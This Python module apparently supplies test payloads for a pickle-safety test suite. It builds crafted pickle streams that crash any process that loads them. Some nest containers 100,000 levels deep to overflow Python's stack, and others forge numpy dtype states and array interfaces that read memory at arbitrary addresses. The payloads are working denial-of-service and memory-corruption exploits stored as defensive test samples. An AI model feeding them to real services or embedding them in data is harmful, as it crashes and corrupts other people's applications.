"""Programs that end the process of whoever loads them.

By what numpy believes a state of, and by what stands so deep in itself that Python's stack ends.
"""

from __future__ import annotations

import struct

from tests.payloads.assembly import (
    EMPTY,
    FALSE,
    NONE,
    POP,
    TRUE,
    aside,
    build,
    call,
    data,
    dict_,
    keep,
    kept,
    list_,
    name,
    number,
    pairs,
    text,
    tuple_,
)

_DTYPE = name("numpy", "dtype")
_FROM = name("numpy._core.numeric", "_frombuffer")


def _flagged(kind: str, flags: int) -> bytes:
    """An element type whose state says more, or less, than its kind is."""
    state = tuple_(number(3), text("|"), NONE, NONE, NONE, number(-1), number(-1), number(flags))
    return build(call(_DTYPE, text(kind), FALSE, TRUE), state)


def _array(dtype: bytes, content: bytes) -> bytes:
    return call(_FROM, data(content), dtype, tuple_(number(len(content) // 8)), text("C"))


def _list(array: bytes) -> bytes:
    return call(name("builtins", "list"), array)


_INTERFACE = dict_(
    data=tuple_(number(16), FALSE),
    shape=tuple_(number(4096)),
    typestr=text("<f8"),
    version=number(3),
)


def at_an_address(thing: bytes) -> bytes:
    """An object that numpy takes for an array, over whatever lies there."""
    return build(thing, dict_(__array_interface__=_INTERFACE))


def numpy_text(value: str) -> bytes:
    """A text of numpy's, which is equal to Python's own wherever that is looked up."""
    kind = call(_DTYPE, text(f"U{len(value)}"), FALSE, TRUE)
    return call(name("numpy._core.multiarray", "scalar"), kind, data(value.encode("utf-32-le")))


DEEP = 100_000
"""Levels: Python's stack takes some ten thousands."""


def _deep_tuple() -> bytes:
    return NONE + b"\x85" * (2 * DEEP)


def _deep_arrays() -> bytes:
    """Arrays of one object each, made from the outside in and filled from the inside out."""
    objects = call(_DTYPE, text("O8"), FALSE, TRUE)
    made = (
        aside(name("numpy._core.multiarray", "_reconstruct"), 921)
        + aside(tuple_(name("numpy", "ndarray"), tuple_(number(0)), data(b"b")), 922)
        + aside(objects, 923)
        + aside(tuple_(number(1)), 924)
    )
    open_ = kept(921) + kept(922) + b"R" + b"(K\x01" + kept(924) + kept(923) + FALSE + b"]"
    return made + open_ * DEEP + NONE + b"atb" * DEEP


def _deep_defaults() -> bytes:
    made = aside(name("collections", "defaultdict"), 920)
    return made + (kept(920) + EMPTY + b"R" + NONE) * DEEP + NONE + b"s" * DEEP


def _deep_deques() -> bytes:
    made = aside(name("collections", "deque"), 920)
    return made + (kept(920) + EMPTY + b"R") * 4 * DEEP + NONE + b"a" * 4 * DEEP


def an_array_in_itself() -> bytes:
    make = name("numpy._core.multiarray", "_reconstruct")
    array = call(make, name("numpy", "ndarray"), tuple_(number(0)), data(b"b"))
    objects = call(_DTYPE, text("O8"), FALSE, TRUE)
    content = list_(kept(930))
    state = tuple_(number(1), tuple_(number(1)), objects, FALSE, content)
    return aside(array, 930) + build(kept(930), state)


def _defaults_from_the_outside() -> bytes:
    """Each is put into the one around it first, and gets its own then."""
    made = aside(name("collections", "defaultdict"), 920)
    outer = aside(kept(920) + EMPTY + b"R", 925)
    inner = kept(920) + EMPTY + b"R" + b"r" + struct.pack("<I", 926)
    step = kept(925) + NONE + inner + b"s" + POP + aside(kept(926), 925)
    return made + keep(outer + kept(925), 927) + POP + step * DEEP + aside(NONE, 925)


CRASHES: dict[str, bytes] = {
    "hash of an item of a set": b"\x8f(" + _deep_tuple() + b"\x90",
    "hash of an item of a frozenset": b"(" + _deep_tuple() + b"\x91",
    "hash of an item of a list": call(name("builtins", "set"), b"](" + _deep_tuple() + b"e"),
    "hash of a deep key": b"}" + _deep_tuple() + NONE + b"s",
    "arrays in arrays": _deep_arrays(),
    "defaultdicts in defaultdicts": _deep_defaults(),
    "deques in deques": _deep_deques(),
    "defaultdicts from the outside": _defaults_from_the_outside() + kept(927),
    "an array under numpy's text": _list(
        call(
            name("numpy", "float64"),
            build(
                name("types", "SimpleNamespace") + EMPTY + b"R",
                pairs((numpy_text("__array_interface__"), _INTERFACE)),
            ),
        )
    ),
    "objects without their flag": _list(_array(_flagged("O8", 0), b"\x41" * 64)),
    "an array at an address": _list(
        call(
            name("numpy", "float64"),
            at_an_address(name("types", "SimpleNamespace") + EMPTY + b"R"),
        )
    ),
}
"""By what they lie about."""
